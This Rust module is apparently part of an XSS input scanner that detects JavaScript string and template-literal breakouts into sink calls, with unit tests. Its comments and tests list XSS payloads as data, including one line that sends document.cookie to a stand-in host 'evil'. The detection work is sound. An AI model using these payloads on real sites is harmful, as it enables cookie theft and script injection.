//! The value as it would land inside a JavaScript string or expression: a quote (or `${`) that
//! ends the string, an operator or statement separator, then a sink use close by
//! (`'-alert(1)-'`, `";alert(1)//`, `'}};alert(1);//`, `${alert(1)}`). A quote alone, as in
//! O'Brien, is never enough. Also: a whole value that is itself a JS call to a telling sink
//! (`alert(1)`, `top["al"+"ert"](1)`), as it would run in an `eval` or handler sink.

use super::js_sink::{find_sinks, Sink, Strength};
use super::Hit;

/// The sink must start within this many bytes after the breakout.
const NEAR: usize = 48;
/// At most this many quotes are tried as breakout points.
const MAX_QUOTES: usize = 64;

/// Where a quote or `${` breakout ends and JS code would begin; `None` if the quote is
/// followed by text rather than an operator.
fn breakout_end(b: &[u8], q: usize) -> Option<usize> {
    let mut i = q + 1;
    // Closers after the string: `')`, `'}}`, `'];`
    while i < b.len() && i < q + 16 && (matches!(b[i], b')' | b']' | b'}') || b[i] == b' ') {
        i += 1;
    }
    let op = *b.get(i)?;
    if matches!(
        op,
        b';' | b',' | b'+' | b'-' | b'*' | b'/' | b'%' | b'|' | b'&' | b'^' | b'<' | b'>' | b'=' | b'?' | b':'
            | b'\n' | b'\r'
    ) {
        Some(i + 1)
    } else {
        None
    }
}

fn sink_near(sinks: &[Sink], from: usize) -> Option<&Sink> {
    sinks.iter().find(|s| s.at >= from && s.at <= from + NEAR)
}

/// A string or template-literal breakout followed by a sink use.
pub fn breakout(text: &str) -> Option<Hit> {
    let sinks = find_sinks(text);
    if sinks.is_empty() {
        return None;
    }
    let b = text.as_bytes();
    for q in memchr::memchr3_iter(b'\'', b'"', b'`', b).take(MAX_QUOTES) {
        if let Some(from) = breakout_end(b, q) {
            if let Some(s) = sink_near(&sinks, from) {
                let quote = b[q] as char;
                return Some(Hit::new(
                    0.9,
                    format!("JS string breakout ({quote} then operator) then {}", s.name),
                ));
            }
        }
    }
    for p in memchr::memmem::find_iter(b, b"${").take(MAX_QUOTES) {
        if let Some(s) = sink_near(&sinks, p + 2) {
            return Some(Hit::new(0.85, format!("template literal ${{...}} with {}", s.name)));
        }
    }
    // A statement separator right before a telling call, as in a numeric JS context: `1;alert(1)`.
    for s in sinks.iter().filter(|s| !s.spaced && s.strength == Strength::Strong) {
        let before = text[..s.at].trim_end();
        if before.ends_with(';') && before.len() > 1 {
            return Some(Hit::new(0.75, format!("statement separator then {}", s.name)));
        }
    }
    None
}

/// A whole value that is a JS expression using a telling sink: the sink is the first thing in
/// the value after JS punctuation, identifiers and `=`/`.` (e.g. `a=alert,a(1)`,
/// `window["alert"](1)`, `(alert)(1)`), and it is a call/index, not prose like "Confirm (2)".
pub fn bare_expression(text: &str) -> Option<Hit> {
    let t = text.trim();
    if t.len() > 512 {
        return None;
    }
    let sinks = find_sinks(t);
    let first = sinks.first()?;
    let head = &t[..first.at];
    let head_is_js = head.bytes().all(|c| {
        c.is_ascii_alphanumeric() || matches!(c, b'(' | b')' | b'[' | b']' | b'"' | b'\'' | b'!' | b'+' | b'-' | b'~' | b';' | b'=' | b'.' | b',' | b'_' | b'$' | b' ')
    }) && !head.contains(' ');
    if !head_is_js {
        return None;
    }
    let strong = sinks.iter().find(|s| s.strength == Strength::Strong && !s.spaced)?;
    Some(Hit::new(0.7, format!("value is a JS expression calling {}", strong.name)))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn flags(t: &str) -> bool {
        breakout(t).is_some_and(|h| h.score >= 0.5)
    }

    #[test]
    fn string_breakouts_then_call() {
        for t in [
            "'-alert(1)-'",
            "\";alert(1)//",
            "'}};alert(1);//",
            "'); alert('XSS",
            "\";document.location='//evil/'+document.cookie;//",
            "x' + eval(atob('YWxlcnQoMSk=')) + '",
            "`${alert(1)}`",
            "48e71;alert(1)//503466e3",
        ] {
            assert!(flags(t), "{t}");
        }
    }

    #[test]
    fn quotes_without_breakout_pass() {
        for t in [
            "O'Brien",
            "it's 'fine' - really",
            "she said \"hello\"; then left",
            "\"alert\" is a word",
            "Tom's alert level",
            "'quoted' text and confirm(ation)",
            "the ${price} placeholder",
        ] {
            assert!(!flags(t), "{t}");
        }
    }

    #[test]
    fn bare_expressions() {
        for t in ["alert(1)", "prompt()", "(alert)(1)", "a=alert,a(1)", "[1].find(alert)", "window['alert'](document.cookie)"] {
            assert!(bare_expression(t).is_some(), "{t}");
        }
        for t in ["Confirm (2)", "alert: server down", "please confirm(yes)", "eval('2+2') is unsafe, says the doc", "x = a + b"] {
            assert!(bare_expression(t).is_none(), "{t}");
        }
    }
}
